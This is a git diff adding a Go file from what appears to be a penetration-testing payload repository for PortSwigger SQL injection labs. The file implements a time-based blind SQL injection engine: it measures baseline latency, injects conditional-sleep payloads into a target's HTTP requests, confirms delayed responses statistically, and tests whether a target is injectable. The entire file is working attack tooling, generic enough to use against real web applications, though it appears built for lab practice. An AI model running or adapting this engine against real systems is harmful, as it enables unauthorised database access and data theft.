@@ -0,0 +1,161 @@
+package sqli
+
+import (
+	"fmt"
+	"math"
+	"sync"
+	"time"
+
+	"github.io/kinasr/pen_payloads/PortSwiggerLabs/SQLi/lab_8/constant"
+	"github.io/kinasr/pen_payloads/PortSwiggerLabs/SQLi/lab_8/logger"
+	"github.io/kinasr/pen_payloads/PortSwiggerLabs/SQLi/lab_8/utility"
+)
+
+// TimeBasedQuestioner answers questions by injecting a conditional sleep and
+// measuring whether the response was delayed. The decision threshold is derived
+// from the measured baseline latency instead of a fixed cutoff, so it adapts to slow
+// or jittery networks.
+type TimeBasedQuestioner struct {
+	client   *utility.HTTPClient
+	point    InjectionPoint
+	boundary Boundary
+	db       constant.Database
+	delay    int // Injected delay in seconds
+	stats    latencyStats
+}
+
+// NewTimeBasedQuestioner measures the baseline latency distribution of the target
+// and picks a delay that stands out clearly from it.
+func NewTimeBasedQuestioner(client *utility.HTTPClient, point InjectionPoint, boundary Boundary, db constant.Database) (*TimeBasedQuestioner, error) {
+	if err := db.Require(constant.CAPABILITY_TIME_DELAY); err != nil {
+		return nil, err
+	}
+
+	questioner := &TimeBasedQuestioner{
+		client:   client,
+		point:    point,
+		boundary: boundary,
+		db:       db,
+		delay:    constant.TIME_DELAY_SECONDS,
+	}
+
+	// Sample the response time of a payload whose condition is false, so the
+	// baseline includes the cost of the injected query itself
+	for range constant.TIME_BASELINE_SAMPLES {
+		elapsed, err := questioner.measure("1=2", 0)
+		if err != nil {
+			return nil, fmt.Errorf("failed to measure baseline latency: %w", err)
+		}
+		questioner.stats.add(elapsed)
+	}
+	logger.Debugf("Baseline latency: mean %s, standard deviation %s", questioner.stats.mean(), questioner.stats.stddev())
+
+	// The delay must be at least twice the statistical margin, otherwise a
+	// delayed response could not be told apart from normal jitter
+	margin := time.Duration(constant.TIME_STDDEV_MULTIPLIER) * questioner.stats.stddev()
+	requiredDelay := int(math.Ceil((2 * margin).Seconds()))
+	if requiredDelay > constant.MAX_TIME_DELAY_SECONDS {
+		return nil, fmt.Errorf("network latency is too unstable for time-based injection (required delay %ds)", requiredDelay)
+	}
+	questioner.delay = max(questioner.delay, requiredDelay)
+	logger.Debugf("Using a delay of %d seconds, threshold %s", questioner.delay, questioner.threshold())
+
+	return questioner, nil
+}
+
+func (q *TimeBasedQuestioner) Name() string {
+	return TECHNIQUE_TIME
+}
+
+// Ask injects the conditional sleep and reports whether the response was delayed.
+// A positive answer is confirmed with a second request to rule out a latency spike.
+func (q *TimeBasedQuestioner) Ask(condition string) (bool, error) {
+	for attempt := range 2 {
+		elapsed, err := q.measure(condition, q.delay)
+		if err != nil {
+			return false, err
+		}
+		if elapsed < q.threshold() {
+			// Normal responses keep the baseline up to date with the network
+			q.stats.add(elapsed)
+			return false, nil
+		}
+		logger.Debugf("Delayed response on attempt %d (%s >= %s)", attempt+1, elapsed, q.threshold())
+	}
+	return true, nil
+}
+
+// threshold is the response time above which a request is considered delayed.
+func (q *TimeBasedQuestioner) threshold() time.Duration {
+	margin := time.Duration(constant.TIME_STDDEV_MULTIPLIER) * q.stats.stddev()
+	halfDelay := time.Duration(q.delay) * time.Second / 2
+	return q.stats.mean() + max(margin, halfDelay)
+}
+
+// payload injects the time delay payload that sleeps for delay seconds when the condition holds.
+func (q *TimeBasedQuestioner) payload(condition string, delay int) string {
+	return q.boundary.Inject(fmt.Sprintf(q.db.TimeDelayPayload, condition, delay), q.db)
+}
+
+// measure sends the time delay payload and returns how long the response took.
+func (q *TimeBasedQuestioner) measure(condition string, delay int) (time.Duration, error) {
+	response, elapsed, err := sendTimedPayload(q.client, q.point, q.payload(condition, delay))
+	if err != nil {
+		return 0, err
+	}
+	utility.SafeClose(response.Body)
+	return elapsed, nil
+}
+
+// DoesTimeBasedVulnerabilityExist checks whether the target can be delayed on
+// demand, i.e. a true condition sleeps and a false condition does not.
+func DoesTimeBasedVulnerabilityExist(client *utility.HTTPClient, point InjectionPoint, boundary Boundary, db constant.Database) (bool, error) {
+	questioner, err := NewTimeBasedQuestioner(client, point, boundary, db)
+	if err != nil {
+		return false, err
+	}
+
+	isDelayed, err := questioner.Ask("1=1")
+	if err != nil || !isDelayed {
+		return false, err
+	}
+	isDelayed, err = questioner.Ask("1=2")
+	if err != nil {
+		return false, err
+	}
+	return !isDelayed, nil
+}
+
+// latencyStats keeps a running mean and variance using Welford's algorithm.
+// It is safe for concurrent use, so a questioner can be asked from several workers.
+type latencyStats struct {
+	mu    sync.Mutex
+	count int
+	avg   float64
+	m2    float64
+}
+
+func (s *latencyStats) add(sample time.Duration) {
+	s.mu.Lock()
+	defer s.mu.Unlock()
+	s.count++
+	value := float64(sample)
+	delta := value - s.avg
+	s.avg += delta / float64(s.count)
+	s.m2 += delta * (value - s.avg)
+}
+
+func (s *latencyStats) mean() time.Duration {
+	s.mu.Lock()
+	defer s.mu.Unlock()
+	return time.Duration(s.avg)
+}
+
+func (s *latencyStats) stddev() time.Duration {
+	s.mu.Lock()
+	defer s.mu.Unlock()
+	if s.count < 2 {
+		return 0
+	}
+	return time.Duration(math.Sqrt(s.m2 / float64(s.count-1)))
+}